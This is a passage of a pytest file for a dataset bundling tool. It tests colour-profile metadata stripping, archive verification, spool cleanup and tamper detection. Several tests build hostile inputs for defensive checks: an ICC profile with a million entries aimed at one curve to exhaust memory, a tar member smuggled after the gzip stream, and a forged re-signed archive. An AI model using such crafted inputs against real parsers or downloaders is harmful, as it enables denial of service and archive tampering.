    header[80:100] = b"PLNT" + b"ICC-ID-SECRET-16"
    profile = bytes(header) + struct.pack(">I", len(tags)) + table + body
    return struct.pack(">I", len(profile)) + profile[4:]


def _icc_secrets_in(data: bytes) -> list[str]:
    """The secrets in an image's bytes or in its colour profile (a PNG's: compressed)."""
    with Image.open(io.BytesIO(data)) as image:
        data += image.info.get("icc_profile") or b""
    return [secret for secret in _ICC_SECRETS
            if secret.encode() in data or secret.encode("utf-16-be") in data]


def _gradient() -> Image.Image:
    ramp = np.linspace(0, 255, 96, dtype=np.uint8)
    return Image.fromarray(np.stack([np.tile(ramp, (54, 1)), np.tile(ramp[::-1], (54, 1)),
                                     np.full((54, 96), 90, np.uint8)], axis=-1))


def _jpeg_icc_segment_sizes(jpeg: bytes) -> list[int]:
    sizes, at = [], 2
    while jpeg[at + 1] != 0xDA:  # up to the first scan
        (length,) = struct.unpack(">H", jpeg[at + 2:at + 4])
        if jpeg[at + 1] == 0xE2 and jpeg[at + 4:at + 16] == b"ICC_PROFILE\0":
            sizes.append(length)
        at += 2 + length
    return sizes


def test_colour_profiles_keep_their_colours_without_their_text_device_or_date(corpus,
                                                                               tmp_path):
    from PIL import ImageCms

    big = _fingerprinted_icc(20_000)  # 120 kB of tone curves: two APP2 segments in a JPEG
    icc = _fingerprinted_icc()
    png = _encoded(_gradient(), "PNG", icc_profile=icc)
    at = png.index(b"iCCP") - 4  # Pillow names it "ICC Profile"; a camera's editor anything
    (length,) = struct.unpack(">I", png[at:at + 4])
    named = b"iCCP" + b"ICCPNAME-SECRET" + png[at + 8 + len(b"ICC Profile"):at + 8 + length]
    png = (png[:at] + struct.pack(">I", len(named) - 4) + named
           + struct.pack(">I", zlib.crc32(named)) + png[at + 12 + length:])
    sources = {"acme/001": _encoded(_gradient(), "JPEG", quality=90, icc_profile=big),
               "acme/002": png,
               "acme/003": _encoded(_gradient(), "WEBP", quality=80, icc_profile=icc),
               "zeta-labs/001": _encoded(_gradient(), "JPEG", icc_profile=icc),
               "zeta-labs/002": _jpeg(2)}
    assert _jpeg_icc_segment_sizes(sources["acme/001"])[1:]  # the profile spans segments
    for slide_id_ in ("acme/001", "acme/002", "acme/003", "zeta-labs/001"):
        assert len(_icc_secrets_in(sources[slide_id_])) >= 8, slide_id_
    srgb = ImageCms.createProfile("sRGB")
    stored = _build_from(corpus, sources, tmp_path)
    for slide_id_ in ("acme/001", "acme/002", "acme/003", "zeta-labs/001"):
        row, data = stored[slide_id_]
        source = sources[slide_id_]
        assert row["original_file_name"].rsplit(".")[-1] == {
            "JPEG": "jpg", "PNG": "png", "WEBP": "webp"}[sniff_format(source)], slide_id_
        assert _icc_secrets_in(data) == [], slide_id_
        with Image.open(io.BytesIO(source)) as before, Image.open(io.BytesIO(data)) as after:
            assert np.array_equal(np.asarray(after), np.asarray(before)), slide_id_
            old = ImageCms.ImageCmsProfile(io.BytesIO(before.info["icc_profile"]))
            new = ImageCms.ImageCmsProfile(io.BytesIO(after.info["icc_profile"]))
            assert old.profile.header_manufacturer == "JNPL"  # what the source said
            assert (new.profile.header_manufacturer, new.profile.header_model,
                    new.profile.attributes) == ("\0" * 4, "\0" * 4, 0), slide_id_
            assert new.profile.profile_id == bytes(16) and new.profile.creation_date.year == 1970
            assert (new.profile.profile_description, new.profile.copyright) == ("", "")
            assert not (new.profile.manufacturer or "").strip("\0")
            assert not (new.profile.model or "").strip("\0")
            # the colours a colour-managed viewer shows are the same
            shown = [np.asarray(ImageCms.profileToProfile(after.convert("RGB"), p, srgb))
                     for p in (old, new)]
            assert np.array_equal(*shown), slide_id_
            assert len(after.info["icc_profile"]) == len(before.info["icc_profile"])
    jpeg = stored["acme/001"][1]
    assert _jpeg_icc_segment_sizes(jpeg) == _jpeg_icc_segment_sizes(sources["acme/001"])
    png_stored = stored["acme/002"][1]
    assert png_stored[png_stored.index(b"iCCP") + 4:].startswith(b"ICC Profile\0\0")


def _icc_tag_place(profile: bytes, signature: bytes) -> tuple[int, int]:
    (count,) = struct.unpack(">I", profile[128:132])
    for entry in range(132, 132 + 12 * count, 12):
        sig, offset, length = struct.unpack(">4sII", profile[entry:entry + 12])
        if sig == signature:
            return offset, length
    raise KeyError(signature)


def _icc_with_place(profile: bytes, signature: bytes, offset: int, length: int) -> bytes:
    """``profile`` with its tag ``signature`` pointed at other bytes."""
    (count,) = struct.unpack(">I", profile[128:132])
    for entry in range(132, 132 + 12 * count, 12):
        if profile[entry:entry + 4] == signature:
            return (profile[:entry + 4] + struct.pack(">II", offset, length)
                    + profile[entry + 12:])
    raise KeyError(signature)


def test_a_colour_profile_whose_text_tag_shares_bytes_with_another_is_not_followed():
    icc = _fingerprinted_icc()
    curve, _ = _icc_tag_place(icc, b"rTRC")
    desc, desc_length = _icc_tag_place(icc, b"desc")
    cprt, _ = _icc_tag_place(icc, b"cprt")
    for signature, offset, length in (
            (b"rTRC", desc, 40),  # a tone curve inside the description: blanking changes it
            (b"cprt", desc + 8, 20),  # two text tags half over each other
            (b"cprt", desc, desc_length + 8),
            (b"wtpt", cprt - 4, 20)):
        with pytest.raises(ValueError, match="shares bytes with another tag"):
            icc_without_metadata(_icc_with_place(icc, signature, offset, length))
    # one text read by two tags (a maker naming its model twice) is no sharing
    same = _icc_with_place(icc, b"dmdd", *_icc_tag_place(icc, b"dmnd"))
    assert b"I\0C\0C\0-\0D\0M\0N\0D" not in icc_without_metadata(same)
    assert icc_without_metadata(icc)[curve:curve + 40] == icc[curve:curve + 40]


def test_a_colour_profile_naming_one_place_a_million_times_costs_one_reading():
    # a hostile table: a million entries naming one 40 kB tone curve, 40 GB if read per entry
    icc = _fingerprinted_icc(20_000)
    (count,) = struct.unpack(">I", icc[128:132])
    table_end, more = 132 + 12 * count, 1_000_000
    curve, length = _icc_tag_place(icc, b"rTRC")
    shift = 12 * more  # the table grows: every offset moves past it

    def moved(entry: int) -> bytes:
        signature, offset, size = struct.unpack(">4sII", icc[entry:entry + 12])
        return struct.pack(">4sII", signature, offset + shift, size)

    table = b"".join(moved(entry) for entry in range(132, table_end, 12))
    big = (icc[4:128] + struct.pack(">I", count + more) + table
           + struct.pack(">4sII", b"zzzz", curve + shift, length) * more + icc[table_end:])
    big = struct.pack(">I", 4 + len(big)) + big
    cleaned = icc_without_metadata(big)
    assert cleaned[curve + shift:curve + shift + length] == icc[curve:curve + length]


def test_an_original_whose_colour_profile_cannot_be_followed_is_stored_as_a_png(corpus,
                                                                                tmp_path):
    broken = _fingerprinted_icc()
    broken = broken[:132] + struct.pack(">4sII", b"desc", 100_000, 20) + broken[144:]
    sources = {"acme/001": _encoded(_gradient(), "JPEG", icc_profile=b"ICC-DESC-SECRET" * 20),
               "acme/002": _encoded(_gradient(), "WEBP", icc_profile=broken),
               "acme/003": _jpeg(3), "zeta-labs/001": _jpeg(4), "zeta-labs/002": _jpeg(5)}
    stored = _build_from(corpus, sources, tmp_path)
    for slide_id_, fmt in (("acme/001", "JPEG"), ("acme/002", "WEBP")):
        row, data = stored[slide_id_]
        assert (row["original_file_name"], row["source_format"]) == (
            f"images/original/{slide_id_}.png", fmt)
        assert _png_chunks(data) == [b"IHDR", b"IDAT", b"IEND"] and not _icc_secrets_in(data)


# --- verify reads the gzip stream to its end --------------------------------------------------

def _cli_verify(archive: Path) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "deckgen", "bundle", "verify", str(archive)],
                          capture_output=True, text=True, env={**os.environ, "COLUMNS": "300"})


@pytest.mark.parametrize("cut", [1, 4, 8, 5000])
def test_verify_rejects_a_truncated_download(corpus, tmp_path, cut):
    _build(corpus, tmp_path)
    archive = tmp_path / archive_name("1")
    truncated = tmp_path / "t.tar.gz"
    truncated.write_bytes(archive.read_bytes()[:-cut])  # head -c <size - cut>
    problems = verify_bundle(truncated)
    assert len(problems) == 1 and "the download is incomplete" in problems[0], problems


def test_cli_verify_exits_3_with_one_line_for_a_truncated_download(corpus, tmp_path):
    _build(corpus, tmp_path)
    archive = tmp_path / archive_name("1")
    archive.write_bytes(archive.read_bytes()[:-1])
    result = _cli_verify(archive)
    assert result.returncode == 3
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and "download is incomplete" in lines[0], result.stderr


def test_cli_verify_json_is_one_object_on_stdout_with_the_same_exit_codes(corpus, tmp_path):
    _build(corpus, tmp_path)
    archive = tmp_path / archive_name("1")

    def verify_json(path: Path) -> tuple[int, dict]:
        result = subprocess.run([sys.executable, "-m", "deckgen", "bundle", "verify", "--json",
                                 str(path)], capture_output=True, text=True)
        assert len(result.stdout.splitlines()) == 1, result.stdout  # stdout holds only it
        return result.returncode, json.loads(result.stdout)

    code, good = verify_json(archive)
    assert code == 0
    assert good == {"ok": True, "complete": True, "archive": str(archive), "notes": [],
                    "problems": [],
                    "sha256": hashlib.sha256(archive.read_bytes()).hexdigest(),
                    "slides": 5, "decks": 2}  # the failed slide is left out
    unpack(archive, tmp_path / "x")
    code, folder = verify_json(tmp_path / "x" / ROOT)
    assert code == 0 and folder["sha256"] is None and (folder["slides"], folder["decks"]) == (5, 2)
    target = "images/upscaled/acme/002.webp"
    _rewrite(archive, lambda name, data: data[:-1] + b"!" if name == target else data)
    code, bad = verify_json(archive)
    assert code == 3 and bad["ok"] is False
    assert bad["problems"] == verify_bundle(archive) and bad["problems"][0].startswith(target)
    assert bad["sha256"] == hashlib.sha256(archive.read_bytes()).hexdigest()
    truncated = tmp_path / "t.tar.gz"
    truncated.write_bytes(archive.read_bytes()[:-1])
    code, cut = verify_json(truncated)
    assert code == 3 and (cut["slides"], cut["decks"]) == (None, None)  # never read
    assert len(cut["problems"]) == 1 and "the download is incomplete" in cut["problems"][0]


def test_verify_rejects_a_wrong_gzip_checksum(corpus, tmp_path):
    _build(corpus, tmp_path)
    archive = tmp_path / archive_name("1")
    raw = bytearray(archive.read_bytes())
    raw[-8] ^= 0xFF  # the trailer's CRC-32
    archive.write_bytes(bytes(raw))
    problems = verify_bundle(archive)
    assert len(problems) == 1 and "compressed data is corrupt" in problems[0], problems


def _extra_tar(name: str = "extra.txt") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        info = tarfile.TarInfo(name)
        info.size = 5
        tar.addfile(info, io.BytesIO(b"hello"))
    return out.getvalue()


@pytest.mark.parametrize("appended", ["random bytes", "gzip member"])
def test_verify_rejects_data_after_the_gzip_stream(corpus, tmp_path, appended):
    _build(corpus, tmp_path)
    archive = tmp_path / archive_name("1")
    extra = os.urandom(100) if appended == "random bytes" else gzip.compress(_extra_tar())
    archive.write_bytes(archive.read_bytes() + extra)
    if appended == "gzip member":  # what tar -xzif would unpack
        with tarfile.open(archive, "r:gz", ignore_zeros=True) as tar:
            assert "extra.txt" in tar.getnames()
    problems = verify_bundle(archive)
    assert problems == [f"{archive.name}: {len(extra)} bytes after the end of the gzip stream "
                        "(another gzip member or appended data); not an archive deckgen wrote"]


def test_verify_rejects_a_tar_appended_inside_the_gzip_stream(corpus, tmp_path):
    _build(corpus, tmp_path)
    archive = tmp_path / archive_name("1")
    archive.write_bytes(gzip.compress(gzip.decompress(archive.read_bytes()) + _extra_tar()))
    problems = verify_bundle(archive)
    assert len(problems) == 1 and "data after the end of the tar archive" in problems[0]


def test_verify_streams_members_larger_than_a_chunk(corpus, tmp_path):
    _build(corpus, tmp_path)
    archive = tmp_path / archive_name("1")
    target = "images/upscaled/acme/002.webp"
    old = hashlib.sha256(_members(archive)[f"{ROOT}/{target}"]).hexdigest()
    big = os.urandom(3 << 20)  # incompressible: several compressed and decompressed chunks
    new = hashlib.sha256(big).hexdigest()
    _rewrite(archive, lambda name, data: big if name == target else
             data.replace(old.encode(), new.encode()) if name == "SHA256SUMS" else data)
    # the big member streams and passes its checksum; the documents' content id is stale,
    # and random bytes are no image
    problems = verify_bundle(archive)
    assert f"metadata.jsonl line 2 (acme/002): file_name {target} is not a readable JPEG, " \
           "PNG or WebP" in problems
    assert problems[1:] and all("does not carry the content id" in p for p in problems
                                if "readable" not in p and "SHA256SUMS was re-made" not in p), \
        problems
    _rewrite(archive, lambda name, data: big[:-1] + b"!" if name == target else data)
    assert verify_bundle(archive)[0].startswith(f"{target}: checksum mismatch")


def test_a_zlib_stream_that_is_not_gzip_is_reported(tmp_path):
    archive = tmp_path / "x.tar.gz"
    archive.write_bytes(zlib.compress(_extra_tar()))
    problems = verify_bundle(archive)
    assert len(problems) == 1 and "not a gzip file" in problems[0]


# --- file mode and stray members -------------------------------------------------------------

def _umask() -> int:
    mask = os.umask(0)
    os.umask(mask)
    return mask


def test_archive_is_readable_like_every_other_site_file(corpus, tmp_path):
    _build(corpus, tmp_path)
    archive = tmp_path / archive_name("1")
    assert archive.stat().st_mode & 0o777 == 0o666 & ~_umask()
    archive.chmod(0o600)  # as an older build left it
    assert _build(corpus, tmp_path)["written"] is False
    assert archive.stat().st_mode & 0o777 == 0o666 & ~_umask()


def test_verify_names_a_stray_top_level_file(corpus, tmp_path):
    _build(corpus, tmp_path)
    archive = tmp_path / archive_name("1")
    out = io.BytesIO()
    with tarfile.open(archive, "r:gz") as src, tarfile.open(fileobj=out, mode="w:gz") as dst:
        for member in src:
            dst.addfile(member, src.extractfile(member) if member.isfile() else None)
        stray = tarfile.TarInfo("stray.txt")
        stray.size = 5
        dst.addfile(stray, io.BytesIO(b"hello"))
    archive.write_bytes(out.getvalue())
    assert verify_bundle(archive) == ["stray.txt: outside the bundle's top-level folder"]


# --- originals the pipeline reads otherwise than they are stored -----------------------------

def _turned_jpeg(orientation: int) -> bytes:
    """A 96x54 JPEG whose EXIF says to show it turned: upright it is 54x96."""
    image = Image.new("RGB", (96, 54), (240, 240, 240))
    ImageDraw.Draw(image).rectangle((0, 0, 20, 10), fill=(200, 30, 30))  # a mark to follow
    exif = Image.Exif()
    exif[0x0112] = orientation
    return _encoded(image, "JPEG", quality=95, exif=exif.tobytes())


@pytest.mark.parametrize("orientation", [6, 8])
def test_a_turned_jpeg_is_stored_upright_like_its_word_boxes(corpus, tmp_path, orientation):
    slides, decks = corpus
    source = _turned_jpeg(orientation)
    upright = decode_image(source, 10**7)
    assert upright.shape[:2] == (96, 54)  # what upscale and OCR read: word boxes are on it
    turned = next(s for s in slides if s.id == "acme/001")
    turned.upscale = UpscaleResult("bicubic", 2.0, 0.01, 108, 192, 54, 96)
    turned.ocr.words = [Word("The", 91.0, [4, 70, 40, 20], 0)]  # off a 96x54 image
    upright_png = _encoded(Image.fromarray(upright[..., ::-1].copy()), "PNG")
    info = build_bundle(slides, decks, lambda s: source if s is turned else _jpeg(s.page),
                        lambda s: encode_upscaled(_png_upscaled(
                            upright_png if s is turned else _jpeg(1))), tmp_path)
    members = _members(tmp_path / info["file"].split("/")[-1])
    rows = {r["id"]: r for r in map(json.loads, members[f"{ROOT}/metadata.jsonl"].splitlines())}
    row = rows["acme/001"]
    assert row["source_format"] == "JPEG"
    stored = members[f"{ROOT}/{row['original_file_name']}"]
    with Image.open(io.BytesIO(stored)) as image:
        assert image.getexif().get(0x0112, 1) == 1  # no viewer turns it again
        assert image.size == (row["source_width"], row["source_height"]) == (54, 96)
        assert np.array_equal(np.asarray(image.convert("RGB")), upright[..., ::-1])
    assert rows["acme/002"]["original_file_name"].endswith(".jpg")  # upright: kept a JPEG
    assert verify_bundle(tmp_path / info["file"].split("/")[-1]) == []


def test_an_upscaled_image_past_the_webp_limit_is_stored_scaled_with_its_scale(corpus, tmp_path):
    slides, decks = corpus
    wide = next(s for s in slides if s.id == "acme/001")
    wide.upscale = UpscaleResult("bicubic", 4.0, 0.01, 16800, 480, 4200, 120)
    wide.ocr.words = [Word("The", 91.0, [4000, 20, 100, 30], 0)]
    big = _encoded(Image.new("RGB", (16800, 480), (250, 250, 250)), "PNG")
    source = _encoded(Image.new("RGB", (4200, 120), (250, 250, 250)), "PNG")
    info = build_bundle(
        slides, decks, lambda s: source if s is wide else _jpeg(s.page),
        lambda s: encode_upscaled(big if s is wide else _png_upscaled(_jpeg(1))), tmp_path)
    archive = tmp_path / info["file"].split("/")[-1]
    members = _members(archive)
    row = next(r for r in map(json.loads, members[f"{ROOT}/metadata.jsonl"].splitlines())
               if r["id"] == "acme/001")
    with Image.open(io.BytesIO(members[f"{ROOT}/{row['file_name']}"])) as image:
        image.load()
        width, height = image.size
    assert max(width, height) <= 16383 and abs(width / height - 35) < 0.5
    # the card's rule still holds: box times upscale_scale lands on the stored image
    assert row["upscale_scale"] == width / 4200
    x, _, w, _ = row["words"][0]["box"]
    assert (x + w) * row["upscale_scale"] <= width
    assert verify_bundle(archive) == []


# --- the spool of images a killed run leaves --------------------------------------------------

_HOLD_SPOOL = """
import sys, time
from pathlib import Path
from deckgen.bundle import SPOOL_PREFIX
from deckgen.files import spool_folder
with spool_folder(Path(sys.argv[1]), SPOOL_PREFIX) as spool:
    (spool / "images").mkdir()
    (spool / "images/big.png").write_bytes(b"x" * 1000)
    print(spool, flush=True)
    time.sleep(60)
"""


def _hold_spool(parent: Path) -> tuple[subprocess.Popen, Path]:
    proc = subprocess.Popen([sys.executable, "-c", _HOLD_SPOOL, str(parent)],
                            stdout=subprocess.PIPE, text=True)
    return proc, Path(proc.stdout.readline().strip())  # type: ignore[union-attr]


def test_a_spool_left_by_a_killed_run_is_swept_and_a_live_ones_kept(corpus, tmp_path,
                                                                   monkeypatch):
    from deckgen import files

    monkeypatch.setattr(files, "_SPOOL_GRACE_S", 0)  # old enough to sweep at once
    spools = tmp_path / "spool"
    killed, killed_spool = _hold_spool(spools)
    live, live_spool = _hold_spool(spools)
    try:
        killed.kill()  # SIGKILL: no finally, no cleanup
        killed.wait(timeout=10)
        assert (killed_spool / "images/big.png").exists()
        info = _build(corpus, tmp_path / "dataset", spool_dir=spools)
        assert info["slides"] == 5
        assert not killed_spool.exists()  # swept: its lock died with it
        assert (live_spool / "images/big.png").exists()  # another run's, still working
        assert sorted(p.name for p in spools.iterdir()) == [live_spool.name]  # ours is gone
    finally:
        live.kill()
        live.wait(timeout=10)


def test_a_fresh_unlocked_spool_is_not_swept(tmp_path):
    from deckgen.bundle import SPOOL_PREFIX
    from deckgen.files import spool_folder

    parent = tmp_path / "spool"
    young = parent / f"{SPOOL_PREFIX}young"  # made by a run not yet holding its lock
    young.mkdir(parents=True)
    (young / ".lock").touch()
    old = parent / f"{SPOOL_PREFIX}old"
    old.mkdir()
    (old / ".lock").touch()
    an_hour_ago = young.stat().st_mtime - 3600
    os.utime(old, (an_hour_ago, an_hour_ago))
    with spool_folder(parent, SPOOL_PREFIX) as spool:
        assert spool.parent == parent and (spool / ".lock").exists()
    assert young.exists() and not old.exists() and not spool.exists()


def test_camera_mpo_jpegs_and_avif_sources_pass_verify(corpus, tmp_path):
    from PIL import features

    slides, decks = corpus
    pictures = [Image.new("RGB", (96, 54), colour) for colour in ("white", "gray")]
    buf = io.BytesIO()
    pictures[0].save(buf, format="MPO", save_all=True, append_images=pictures[1:])
    sources = {"acme/001": buf.getvalue()}  # a camera's multi-picture JPEG
    if features.check("avif"):
        sources["acme/002"] = _encoded(pictures[0], "AVIF")
    info = build_bundle(slides, decks, lambda s: sources.get(s.id) or _jpeg(s.page),
                        lambda s: encode_upscaled(_png_upscaled(_jpeg(1))), tmp_path)
    archive = tmp_path / info["file"].split("/")[-1]
    members = _members(archive)
    rows = {r["id"]: r for r in map(json.loads, members[f"{ROOT}/metadata.jsonl"].splitlines())}
    assert rows["acme/001"]["source_format"] == "JPEG"
    stored = members[f"{ROOT}/{rows['acme/001']['original_file_name']}"]
    with Image.open(io.BytesIO(stored)) as image:  # the first picture alone, as read
        assert (image.format, getattr(image, "n_frames", 1)) == ("JPEG", 1)
        assert np.array_equal(np.asarray(image), np.asarray(pictures[0]))
    assert b"MPF" not in stored and len(stored) < len(sources["acme/001"]) // 2 + 100
    if "acme/002" in sources:
        assert rows["acme/002"]["source_format"] == "AVIF"
    assert verify_bundle(archive) == []


# --- values that disagree between files, in a copy edited and re-signed --------------------

def _republish(archive: Path, edits: dict) -> None:
    """Edit members (``edits``: name -> edit(bytes) -> bytes) and re-sign the copy as someone
    republishing it would: SHA256SUMS, the hashes and sizes in croissant.json and
    datapackage.json, and the content id in every version. Checksums then all pass."""
    files = {name.split("/", 1)[1]: data for name, data in _members(archive).items()}
    for name, edit in edits.items():
        files[name] = edit(files[name])
    old_id = json.loads(files["croissant.json"])["version"].split("+")[1]
    new_id = content_digest({n: hashlib.sha256(d).hexdigest() for n, d in files.items()
                             if n != "SHA256SUMS"})
    files["README.md"] = files["README.md"].replace(old_id.encode(), new_id.encode())
    # each document lists the hashes of those before it (its own, never)
    croissant = json.loads(files["croissant.json"].decode().replace(old_id, new_id))
    for dist in croissant["distribution"]:
        if dist.get("contentUrl") in files and "sha256" in dist:
            data = files[dist["contentUrl"]]
            dist["sha256"], dist["contentSize"] = hashlib.sha256(data).hexdigest(), f"{len(data)} B"
    files["croissant.json"] = (json.dumps(croissant, indent=2, ensure_ascii=False) + "\n").encode()
    package = json.loads(files["datapackage.json"].decode().replace(old_id, new_id))
    for res in package["resources"]:
        data = files[res["path"]]
        res["hash"], res["bytes"] = f"sha256:{hashlib.sha256(data).hexdigest()}", len(data)
    files["datapackage.json"] = (json.dumps(package, indent=2, ensure_ascii=False) + "\n").encode()
    files["SHA256SUMS"] = "".join(f"{hashlib.sha256(files[n]).hexdigest()}  {n}\n"
                                  for n in sorted(files) if n != "SHA256SUMS").encode()
    _rewrite(archive, lambda name, data: files[name])


def _edit_row(line: int, **changes):
    """An edit of metadata.jsonl: ``changes`` set on its ``line``-th row (1-based)."""
    def edit(data: bytes) -> bytes:
        lines = data.decode().splitlines(keepends=True)
        row = json.loads(lines[line - 1])
        row.update(changes)
        lines[line - 1] = json.dumps(row, ensure_ascii=False) + "\n"
        return "".join(lines).encode()
    return edit


def _edit_csv(number: int, **changes):
    """An edit of slides.csv: ``changes`` (as the CSV writes them) set on its record ``number``."""
    def edit(data: bytes) -> bytes:
        records = list(csv.reader(io.StringIO(data.decode())))
        for column, value in changes.items():
            records[number][records[0].index(column)] = value
        out = io.StringIO()
        csv.writer(out, lineterminator="\n").writerows(records)
        return out.getvalue().encode()
    return edit


def _edit_both(number: int, **changes) -> dict:
    """metadata.jsonl and slides.csv edited alike, as a careful republisher would."""
    columns = {f.name for f in FIELDS if f.csv}
    return {"metadata.jsonl": _edit_row(number, **changes),
            "slides.csv": _edit_csv(number, **{k: str(v) for k, v in changes.items()
                                               if k in columns})}


def _republished(corpus, tmp_path: Path, edits: dict) -> list[str]:
    _build(corpus, tmp_path)
    archive = tmp_path / archive_name("1")
    _republish(archive, edits)
    problems = verify_bundle(archive)
    assert not any("checksum" in p or "content id" in p or "differs from SHA256SUMS" in p
                   or "is not its size" in p for p in problems), problems  # signed right
    return problems


def test_republish_helper_keeps_a_good_copy_good(corpus, tmp_path):
    assert _republished(corpus, tmp_path, {"README.md": lambda d: d + b"\n"}) == []


def test_verify_flags_slides_csv_disagreeing_with_metadata(corpus, tmp_path):
    problems = _republished(corpus, tmp_path, {"slides.csv": _edit_csv(2, industry="biotech")})
    assert problems == ["slides.csv row 2 (acme/002): industry 'biotech', but metadata.jsonl "
                        "line 2 has 'fintech'"]
    # QA: a label edited in metadata.jsonl alone
    problems = _republished(corpus, tmp_path, {"metadata.jsonl": _edit_row(1, section="team")})
    assert ("slides.csv row 1 (acme/001): section 'problem', but metadata.jsonl line 1 has "
            "'team'") in problems


def test_an_archive_of_an_older_bundle_format_is_checked_by_checksums_and_content_id(
        corpus, tmp_path):
    # an archive published before an upgrade lacks the new fields: not "536 problems" (QA-58);
    # but a format named in provenance.json turns off no check a forger could pass (QA-59)
    from deckgen.bundle import VERSION as FORMAT

    def made_by(version: str):
        def edit(data: bytes) -> bytes:
            return (json.dumps({**json.loads(data), "bundle_format": version}) + "\n").encode()
        return edit

    def lacking_a_field(data: bytes) -> bytes:
        return b"".join(json.dumps({k: v for k, v in json.loads(line).items()
                                    if k != "license_open"}).encode() + b"\n"
                        for line in data.splitlines())

    older = str(int(FORMAT) - 1)
    _build(corpus, tmp_path)
    archive = tmp_path / archive_name("1")
    _republish(archive, {"provenance.json": made_by(older), "metadata.jsonl": lacking_a_field})
    notes: list[str] = []
    assert verify_bundle(archive, notes) == []
    said = subprocess.run([sys.executable, "-m", "deckgen", "bundle", "verify", "--json",
                           str(archive)], capture_output=True, text=True)
    assert said.returncode == 0 and json.loads(said.stdout)["complete"] is False
    assert "checksums and content id OK; its schema and values were not checked" in said.stderr
    unpack(archive, tmp_path / "unpacked")  # a folder has no SHA-256 to give (QA-71: "None")
    folder = next((tmp_path / "unpacked").iterdir())
    said = subprocess.run([sys.executable, "-m", "deckgen", "bundle", "verify", str(folder)],
                          capture_output=True, text=True)
    assert said.returncode == 0 and "(an older bundle format)" in said.stderr, said.stderr
    assert notes == [f"made by an older deckgen (bundle format {older}; this one writes "
                     f"{FORMAT}): its checksums and content id were checked, not its schema "
                     "and values"]
    # a file changed and SHA256SUMS re-made, the documents left: not the published dataset;
    # the card (outside the content id) is held by datapackage.json's hashes (QA-60)
    for name, edit in (("metadata.jsonl", lambda d: d.replace(b"acme", b"acne")),
                       ("README.md", lambda d: d + b"\nAll slides are CC0.\n")):
        _republish(archive, {"provenance.json": made_by(older), "metadata.jsonl": lacking_a_field})
        files = {n.split("/", 1)[1]: d for n, d in _members(archive).items()}
        files[name] = edit(files[name])
        files["SHA256SUMS"] = "".join(f"{hashlib.sha256(files[n]).hexdigest()}  {n}\n"
                                      for n in sorted(files) if n != "SHA256SUMS").encode()
        _rewrite(archive, lambda member, data, files=files: files[member])
        assert verify_bundle(archive), name
    # formats before 13 named none: deckgen's provenance.json without the key is one of
    # them (QA-68: an archive a deckgen of 2026-11-27 published failed with 536 problems)
    def unnamed(data: bytes) -> bytes:
        return (json.dumps({k: v for k, v in json.loads(data).items() if k != "bundle_format"})
                + "\n").encode()

    _build(corpus, tmp_path)
    _republish(archive, {"provenance.json": unnamed, "metadata.jsonl": lacking_a_field})
    notes = []
    assert verify_bundle(archive, notes) == []
    assert notes == [f"made by an older deckgen (a format before 13, unnamed; this one writes "
                     f"{FORMAT}): its checksums and content id were checked, not its schema "
                     "and values"]
    # ... and its content id is still held (a file changed and SHA256SUMS re-made)
    files = {n.split("/", 1)[1]: d for n, d in _members(archive).items()}
    files["metadata.jsonl"] = files["metadata.jsonl"].replace(b"acme", b"acne")
    files["SHA256SUMS"] = "".join(f"{hashlib.sha256(files[n]).hexdigest()}  {n}\n"
                                  for n in sorted(files) if n != "SHA256SUMS").encode()
    _rewrite(archive, lambda member, data, files=files: files[member])
    assert verify_bundle(archive)
    # damaged and SHA256SUMS left: its checksum's problem alone, not one per row of this
    # format's missing fields (QA-71)
    files["slides.csv"] += b"extra,row\n"
    _rewrite(archive, lambda member, data, files=files: files[member])
    notes = []
    problems = verify_bundle(archive, notes)
    assert problems and all(p.startswith("slides.csv: ") for p in problems), problems
    assert notes[0].endswith("its checksums were checked, not its schema and values")
    # a provenance.json that is not deckgen's (no "deckgen" key) gets the full check
    _build(corpus, tmp_path)
    _republish(archive, {"provenance.json": lambda d: (json.dumps(
        {k: v for k, v in json.loads(d).items() if k not in ("bundle_format", "deckgen")})
        + "\n").encode(), "metadata.jsonl": lacking_a_field})
    assert any("license_open" in p for p in verify_bundle(archive))
    # only a format that exists is checked in part: "0", "013", "12" get the full check
    for version in ("0", "013", "12"):
        _build(corpus, tmp_path)
        _republish(archive, {"provenance.json": made_by(version),
                             "metadata.jsonl": lacking_a_field})
        assert any("license_open" in p for p in verify_bundle(archive)), version
    # a newer format is not passed as checked
    _build(corpus, tmp_path)
    _republish(archive, {"provenance.json": made_by(str(int(FORMAT) + 1))})
    assert verify_bundle(archive) == [
        f"provenance.json: made by a newer deckgen (bundle format {int(FORMAT) + 1}; this one "
        f"checks format {FORMAT} and older): upgrade deckgen to check it"]


def test_verify_flags_the_cards_section_table_disagreeing_with_the_labels(corpus, tmp_path):
    problems = _republished(corpus, tmp_path, {"README.md": lambda d: d.replace(
        b"| `problem` (Problem) | 5 |", b"| `problem` (Problem) | 4 |")})
    assert problems == ["README.md: the Sections table says problem 4, but metadata.jsonl "
                        "labels 5 slides problem"]
    problems = _republished(corpus, tmp_path, {"metadata.jsonl": _edit_row(1, section="team")})
    assert "README.md: the Sections table says problem 5, but metadata.jsonl labels 4 " \
           "slides problem" in problems
    assert "README.md: the Sections table says team 0, but metadata.jsonl labels 1 " \
           "slides team" in problems


def test_verify_flags_a_page_that_is_not_its_id_and_shared_images(corpus, tmp_path):
    problems = _republished(corpus, tmp_path, _edit_both(2, page=3))
    assert problems == [
        "metadata.jsonl line 2 (acme/002): page 3 is not the id's page 002",
        "metadata.jsonl line 2 (acme/002): file_name images/upscaled/acme/002.webp is not "
        "images/upscaled/acme/003.<webp|png>, the name the bundle gives page 3 of deck acme",
        "metadata.jsonl line 2 (acme/002): original_file_name images/original/acme/002.jpg is "
        "not images/original/acme/003.<jpg|png|webp>, the name the bundle gives page 3 of "
        "deck acme",
        "metadata.jsonl line 3 (acme/003): page 3 of deck acme is also metadata.jsonl line 2 "
        "(acme/002)",
    ]
    problems = _republished(corpus, tmp_path, _edit_both(
        2, file_name="images/upscaled/acme/003.webp"))
    assert problems == [
        "metadata.jsonl line 2 (acme/002): file_name images/upscaled/acme/003.webp is not "
        "images/upscaled/acme/002.<webp|png>, the name the bundle gives page 2 of deck acme",
        "metadata.jsonl line 3 (acme/003): file_name images/upscaled/acme/003.webp is also "
        "named by metadata.jsonl line 2 (acme/002)",
        "images/upscaled/acme/002.webp: no row of metadata.jsonl names it",
    ]
    problems = _republished(corpus, tmp_path, _edit_both(
